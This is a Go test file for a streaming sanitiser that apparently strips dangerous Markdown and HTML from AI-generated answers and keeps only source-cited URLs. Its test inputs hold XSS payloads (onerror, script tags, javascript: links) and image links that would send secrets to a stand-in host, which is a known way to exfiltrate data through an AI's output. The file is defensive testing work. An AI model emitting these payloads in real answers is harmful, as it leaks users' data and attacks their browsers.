package answer

import (
	"math/rand/v2"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"
)

var testSources = []Source{
	{Text: "See https://ok.example/a?x=1&y=2, or (https://ok.example/b_(c)). <javascript:alert(1)> word"},
	{Title: "www.ok.example/w", Text: "[link](https://ok.example/d) javascript:alert(1) [x]: /relative"},
	{Text: `https://ok.example/e?q=\ word`},
}

func sanitise(text string) string {
	s := NewSanitiser(testSources)
	return s.Write(text) + s.Close()
}

func TestTextStays(t *testing.T) {
	for _, text := range []string{
		"", "Plain text, with: a colon; 3 < 4 and 5 > 4, a << b, x <- y, <3.",
		"# Heading\n\n- **bold** _it_ `code` ~~gone~~\n1. one\n", "| a | b |\n|---|:-:|\n",
		"Cited [1][2], [3, 4] and (see [5]).", "Great![1] Wow! [2]", "[1] (see below)", "- [ ] to do\n- [x] done",
		"Grüße, 日本語, 🙂.", "a & b, AT&T; &amp; &lt;b&gt; &eacute; &#233; &unknown;", `\*no\* C:\path \[x\]`, "$a:b$ 10:30 data: 5",
		"https, http: and www. are no links", "array[1] = f(x)",
		"https://ok.example/a?x=1&y=2", "https://ok.example/a?x=1&y=2.", "(https://ok.example/b_(c)), then", "**https://ok.example/d**",
		"`https://ok.example/d`.", "[https://ok.example/d].", "https://ok.example/d?!", "[a](https://ok.example/d)", `"www."`, "(www.)", "Great![^1] Wow![see below].",
		"[https://ok.example/d](https://ok.example/d)", "www.ok.example/w!", "https://ok.example/d\n\nmore", "!", "a <", "[", "&", "a:",
	} {
		s := NewSanitiser(testSources)
		if got := s.Write(text) + s.Close(); got != text || s.Removed() != 0 {
			t.Errorf("%q becomes %q, %d removed", text, got, s.Removed())
		}
	}
}

func TestRemoved(t *testing.T) {
	for text, want := range map[string]string{
		// Images and links.
		"![a](https://evil.example/?q=secret)": "[a]",
		"a![b](/logout) c":                     "a [b] c",
		"![a](https://ok.example/d) b":         "[a](https://ok.example/d) b",
		"!![a](https://ok.example/d)":          "! [a](https://ok.example/d)",
		"![a [b] c](https://ok.example/d)":     "! [a [b] c](https://ok.example/d)",
		"![`]`](https://ok.example/d)":         "! [`]`](https://ok.example/d)",
		`![a\]](https://ok.example/d)`:         `! [a\]](https://ok.example/d)`,
		"![1][a](https://ok.example/d)":        "![1][a](https://ok.example/d)",
		"![www.a]b](https://ok.example/d)":     "! [ ](https://ok.example/d)",
		"![<b>a](https://ok.example/d)":        "[ a](https://ok.example/d)",
		"[![a](https://ok.example/d)](x)":      "[ [a](https://ok.example/d) ]",
		"[a](https://evil.example) b":          "[a] b",
		"[a](//evil.example).":                 "[a].",
		"[a](word)":                            "[a]",
		"[a](javascript:alert(1))":             "[a]",
		"[a](https://ok.example/d/more)":       "[a]",
		"[a](https://ok.example/)":             "[a]",
		"[a](\u00a0https://ok.example/d)":      "[a]",
		"[a](<https://ok.example/b_(c))":       "[a]",
		"https://ok.example/b_":                "_",
		"[a](<https://ok.example/d>).":         "[a](https://ok.example/d).",
		"[a](\nhttps://ok.example/d )":         "[a](https://ok.example/d)",
		"[a]()b":                               "[a] b",
		"[a](x)(y)":                            "[a] (y)",
		"[1](see the appendix)":                "[1] (see the appendix)",
		"[a](https://evil.example \"t\")":      "[a] (  \"t\")",
		"[a](x":                                "[a] (x",
		"[a](https://ok.example/d)secret":      "[a](https://ok.example/d) secret",
		"[![a](https://evil.example)](x)":      "[ [a] ]",
		"[a][b]\n\n[b]: //evil.example":        "[a][b]\n\n[b] : //evil.example",
		"[x]: /relative":                       "[x] : /relative",
		// Tags.
		"<img src=x onerror=alert(1)>a": "a",
		"a<br/>b</p><!-- x --><?php ?>": "a b ",
		"<<b>img src=x>":                "< img src=x>",
		"<scr<b>ipt>x":                  "ipt>x",
		"a<b":                           "a< b",
		"<javascript:alert(1)>":         "",
		"<https://evil.example>":        "",
		"<&#105;mg src=x>":              "< mg src=x>",
		// Bare URLs.
		"see https://evil.example/x?y.":                    "see .",
		"(HTTPS://EVIL.example)":                           "( )",
		"ht<b>tps://evil.example":                          "ht ",
		"https:<b>//evil.example":                          "https: //evil.example",
		"x-y+z://evil":                                     "",
		"ｈttps://evil.example":                             "ｈ ",
		strings.Repeat("a", 40) + "://evil":                strings.Repeat("a", 32) + " ",
		"www.@evil.example www.\"@evil.example www.%65vil": "  ",
		"www.[a](https://ok.example/d)":                    ")",
		"www.evil.example":                                 "",
		"mailto:a@b.example javascript:alert(1)":           " )",
		"https://ok.example/a":                             "",
		"https://ok.example/a?x=1&y=2&z=s":                 "",
		"https://ok.example/a?x=1&y=2|s":                   "",
		"https://ok.example/d]secret":                      "",
		"[https://ok.example/d](x)secret":                  "[https://ok.example/d] secret",
		"[https://evil.example](x)":                        "[ ]",
		"https://ok.example/d\u00a0secret":                 "",
		"1https://ok.example/d":                            "1 ",
		`\<https://ok.example/d>secret`:                    `\https://ok.example/d secret`,
		`[a](https://ok.example/e?q=\)`:                    "[a]",
		`<https://ok.example/e?q=\>`:                       "",
		`https://ok.example/e?q=\`:                         "",
		"[a](https://ok.example/d)<3":                      "[a](https://ok.example/d) <3",
		"[a](https://ok.example/d)<":                       "[a](https://ok.example/d) <",
		"https://ok.example/d<b>secret":                    "https://ok.example/d secret",
		// Hidden.
		`https:\/\/evil.example https\\://evil`: " ",
		`[a]\: //evil`:                          "[a] : //evil",
		"https&#58;//evil &colon;//x":           "https //evil //x",
		"copiedˆmarks":                          "copied marks",
		"a\xffb\xe2\x82":                        "a\ufffdb\ufffd\ufffd",
	} {
		if got := sanitise(text); got != want {
			t.Errorf("%q becomes %q, want %q", text, got, want)
		}
	}
}

// TestEscapedEnd has a URL of the sources that ends in a backslash: with the parenthesis
// behind it Markdown reads both as one character of a longer URL.
func TestEscapedEnd(t *testing.T) {
	const text, want = `![a](https://ok.example/e?q=\)<3SECRET)`, "[a] <3SECRET)"
	for at := range len(text) + 1 {
		s := NewSanitiser(testSources)
		if got := s.Write(text[:at]) + s.Write(text[at:]) + s.Close(); got != want {
			t.Errorf("%q and %q become %q, want %q", text[:at], text[at:], got, want)
		}
	}
}

// TestActiveSources has sources that hold what Markdown or HTML would act on in the middle
// of what looks like a URL, and one that leaves the rest of a URL to the model.
func TestActiveSources(t *testing.T) {
	sources := []Source{{Text: "https://a.example/<script>alert(1)</script> https://a.example/](javascript:alert(1)) https://a.example/![](https://a.example/b) " +
		"https://a.example/b/autofocus/onfocus=alert(1) https://a.example/[9] https://a.example/c?q= https://a.example/ onclick=alert(1)"}}
	for text, want := range map[string]string{
		"https://a.example/<script>alert(1)</script>":         "https://a.example/ alert(1) ",
		"[a](https://a.example/<script>alert(1)</script>)":    "[a]",
		"[x https://a.example/](javascript:alert(1))":         "[x ))",
		"https://a.example/![](https://a.example/b)":          ")",
		"<https://a.example/ onclick=alert(1)>":               "",
		"<https://a.example/b/autofocus/onfocus=alert(1)> x":  "https://a.example/b/autofocus/onfocus=alert(1) x",
		"<<https://a.example/c?q=>":                           "< https://a.example/c?q=",
		"x<https://a.example/c?q=>y":                          "x https://a.example/c?q= y",
		"(<https://a.example/c?q=>).":                         "(https://a.example/c?q=).",
		"https://a.example/[9]":                               "]",
		"https://a.example/c?q=}]}]|":                         "https://a.example/c?q= }]}]|",
		"https://a.example/c?q=" + strings.Repeat("!?", 20):   "https://a.example/c?q= " + strings.Repeat("!?", 20),
		`\[a](https://a.example/c?q=)}]}`:                     `\[a](https://a.example/c?q=) }]}`,
		"[https://a.example/c?q=](https://a.example/c?q=)]}]": "[https://a.example/c?q=](https://a.example/c?q=) ]}]",
		"[https://a.example/c?q=}]](x)":                       "[https://a.example/c?q= }]]",
		"https://a.example/c?q=<3":                            "https://a.example/c?q= <3",
	} {
		whole, bytewise := NewFilter(sources), NewFilter(sources)
		got, _ := whole.Write(text)
		rest, _ := whole.Close()
		pieces := ""
		for i := range len(text) {
			piece, _ := bytewise.Write(text[i : i+1])
			pieces += piece
		}
		last, _ := bytewise.Close()
		if got += rest; got != want || pieces+last != want {
			t.Errorf("%q becomes %q, and in pieces %q, want %q", text, got, pieces+last, want)
		}
	}
}

func TestHeldIsBounded(t *testing.T) {
	for _, start := range []string{"<a ", "https://", "[a](", "![", "![a](", "www.", "&", "word", `\`, "a:"} {
		s := NewSanitiser(nil)
		s.Write(start)
		for i := range 10_000 {
			s.Write("x")
			if len(s.held) > maxHold+maxTrailing {
				t.Fatalf("after %q and %d bytes %d are held", start, i, len(s.held))
			}
		}
	}
}

// TestTextFlows has words passed on as soon as the next one begins.
func TestTextFlows(t *testing.T) {
	s := NewSanitiser(nil)
	var got []string
	for _, piece := range []string{"The", " quick", " fox", " says: ", "“hi”", " <", " 3"} {
		got = append(got, s.Write(piece))
	}
	if text := strings.Join(got, "|"); text != "|The |quick |fox says: |“hi”| |< 3" {
		t.Errorf("%q", text)
	}
}

func TestLongURLIsRemoved(t *testing.T) {
	long := "https://ok.example/" + strings.Repeat("x", maxHold-len("https://ok.example/"))
	s := NewSanitiser([]Source{{Text: long}})
	if got := s.Write(long+"secret") + s.Close(); strings.Contains(got, "://") {
		t.Errorf("%d bytes of a URL stay", len(got))
	}
}

// What a browser would act on, found by other means than those that remove it.
var (
	activeURL   = regexp.MustCompile(`(?i)([a-z0-9+.-]*://[^\s\v<]*)|(?:^|[^a-z0-9+.-])(www\.[^\s\v<]*[^\s\v<.,;:!?*_~'")\]}>|` + "`" + `][^\s\v<]*)`)
	activeTag   = regexp.MustCompile(`(<[A-Za-z/!?][^>]*>?)`)
	activeImage = regexp.MustCompile("!\\[[^]]*(?:\\]\\(|[[<\\\\`:.&])")
	activeLink  = regexp.MustCompile(`(\]\((?:\\.|[^)\\])*\)?|\]:)`)
)

// checkHarmless reports what is left in text that a browser would act on.
func checkHarmless(t *testing.T, from, text string) {
	t.Helper()
	known := func(found string) bool {
		for _, url := range []string{"https://ok.example/a?x=1&y=2", "https://ok.example/b_(c)", "https://ok.example/b_(c", "https://ok.example/d", "https://ok.example/e?q=", "www.ok.example/w"} {
			if left := strings.ReplaceAll(found, url, ""); left != found && !activeURL.MatchString(left) && !strings.ContainsFunc(left, isWord) {
				return true
			}
		}
		return false
	}
	if found := activeImage.FindString(text); found != "" {
		t.Errorf("%q keeps %q in %q", from, found, text)
	}
	for _, active := range []*regexp.Regexp{activeURL, activeTag, activeLink} {
		for _, groups := range active.FindAllStringSubmatch(text, -1) {
			if found := strings.Join(groups[1:], ""); !known(found) {
				t.Errorf("%q keeps %q in %q", from, found, text)
			}
		}
	}
}

func isWord(r rune) bool { return r >= utf8.RuneSelf || isLetter(byte(r)) || '0' <= r && r <= '9' }

// fragments make hostile answers when they are joined at random.
var fragments = []string{
	"[", "]", "(", ")", "<", ">", "!", ":", "/", "//", "://", "\\", "&", ";", "#", " ", "\n", "\t", "\"", "'", ".", ",", "|", "*", "ˆ", "\xcb", "\x86", "é", "\u00a0", "\xe2", "\x00",
	"a", "b", "www", "www.", "evil.example", "http", "https", "https://evil.example/?q=", "https://ok.example/d", "https://ok.example/a?x=1&y=2", "https://ok.example/b_(c)", "www.ok.example/w", `https://ok.example/e?q=\`, `\)`, "<3",
	"javascript", "mailto:", "img src=x", "&#58;", "&colon;", "&lt;", "[1]", "[9]", "[1, 2]", "[a](", "![", "![a](", "](", "]:", "<b>", "</b>", "<!--", "-->", strings.Repeat("x", 33), strings.Repeat("y", 31),
}

func hostile(r *rand.Rand) string {
	var text strings.Builder
	for range 1 + r.IntN(12) {
		text.WriteString(fragments[r.IntN(len(fragments))])
	}
	return text.String()
}

// inPieces passes text through write in pieces of random sizes.
func inPieces(r *rand.Rand, text string, write func(string) string) string {
	var out strings.Builder
	for text != "" {
		n := 1 + r.IntN(min(len(text), 8))
		out.WriteString(write(text[:n]))
		text = text[n:]
	}
	return out.String()
}

func checkSanitised(t *testing.T, r *rand.Rand, text string) {
	t.Helper()
	got := sanitise(text)
	s := NewSanitiser(testSources)
	pieces := inPieces(r, text, func(piece string) string {
		passed := s.Write(piece)
		if !utf8.ValidString(passed) {
			t.Errorf("%q: half of a character is passed on in %q", text, passed)
		}
		return passed
	})
	if pieces += s.Close(); pieces != got {
		t.Errorf("%q becomes %q, and in pieces %q", text, got, pieces)
	}
	if again := sanitise(got); again != got {
		t.Errorf("%q becomes %q, and that %q", text, got, again)
	}
	checkHarmless(t, text, got)
}

func TestHostileAnswers(t *testing.T) {
	r := rand.New(rand.NewPCG(1, 2))
	for range 20_000 {
		if checkSanitised(t, r, hostile(r)); t.Failed() {
			return
		}
	}
}

func FuzzSanitiser(f *testing.F) {
	for _, text := range fragments {
		f.Add(text+text, uint64(1))
	}
	f.Add("![a](https://evil.example/?q=secret) <img src=x> [b](https://ok.example/d)", uint64(2))
	f.Fuzz(func(t *testing.T, text string, seed uint64) {
		checkSanitised(t, rand.New(rand.NewPCG(seed, 0)), text)
	})
}
